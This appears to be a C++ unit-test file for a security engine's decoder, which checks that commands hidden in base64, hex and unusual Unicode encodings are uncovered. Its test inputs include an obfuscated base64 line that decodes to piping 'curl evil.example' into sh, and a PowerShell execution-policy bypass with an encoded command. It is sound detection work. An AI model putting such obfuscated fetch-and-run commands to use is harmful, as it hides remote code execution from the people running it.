#include "engine/text_decode.hpp"

#include <gtest/gtest.h>

#include <algorithm>

namespace vedette::engine {
namespace {

bool hides(std::string_view text, std::string_view part, bool fold = false) {
  return decoded_contains(decode_base64_tokens(text), part, fold);
}

TEST(text_decode, finds_utf16_behind_base64) {
  // The two examples of the vendor's operator reference.
  EXPECT_TRUE(
    hides("powershell.exe -ex bypass -e \"ZwBlAHQALQBwAHIAbwBjAGUAcwBzAA==\"",
          "get-process"));
  EXPECT_FALSE(hides("powershell.exe -ex bypass \"ZwBlAHQALQBhAGwAaQBhAHMA\"",
                     "get-process"));
}

TEST(text_decode, finds_plain_text_behind_base64) {
  EXPECT_TRUE(hides("echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh",
                    "curl evil"));
  EXPECT_TRUE(hides("sh -c Y3VybCBldmls", "curl evil")); // no padding
  EXPECT_TRUE(hides("x Q1VSTCBFVklM", "curl evil", true));
  EXPECT_FALSE(hides("x Q1VSTCBFVklM", "curl evil", false));
  EXPECT_FALSE(hides("ls -la /usr/local/share", "curl"));
}

TEST(text_decode, reads_every_unicode_form) {
  using std::string_view_literals::operator""sv;
  auto reads = [](std::string_view bytes, std::string_view text) {
    auto all = readings_of(bytes);
    return std::find(all.begin(), all.end(), text) != all.end();
  };
  EXPECT_TRUE(reads("hi", "hi"));
  EXPECT_TRUE(reads("h\0i\0"sv, "hi"));
  EXPECT_TRUE(reads("\0h\0i"sv, "hi"));
  EXPECT_TRUE(reads("\xff\xfe\xe4\0"sv, "ä"));
  EXPECT_TRUE(reads("\xff\xfe\0\0h\0\0\0"sv, "h"));
  EXPECT_TRUE(reads("\0\0\xfe\xff\0\0\0h"sv, "h"));
  EXPECT_TRUE(reads("+/v8-a+AOQ-b+-"sv, "aäb+"));
}

TEST(text_decode, finds_hexadecimal_in_its_usual_spellings) {
  auto finds = [](std::string_view text) {
    return decoded_contains(decode_hex_tokens(text), "cat", false);
  };
  EXPECT_TRUE(finds("echo 636174 | xxd -r -p"));
  EXPECT_TRUE(finds("printf '\\x63\\x61\\x74'"));
  EXPECT_TRUE(finds("0x636174"));
  EXPECT_FALSE(finds("dad 63 61 74"));
}

TEST(text_decode, survives_anything) {
  std::string all;
  for (int i = 0; i < 512; ++i)
    all += static_cast<char>(i * 37 % 256);
  for (std::size_t n = 0; n < all.size(); ++n) {
    auto text = std::string_view{all}.substr(n);
    decode_base64_tokens(text);
    decode_hex_tokens(text);
    readings_of(text);
  }
}

} // namespace
} // namespace vedette::engine
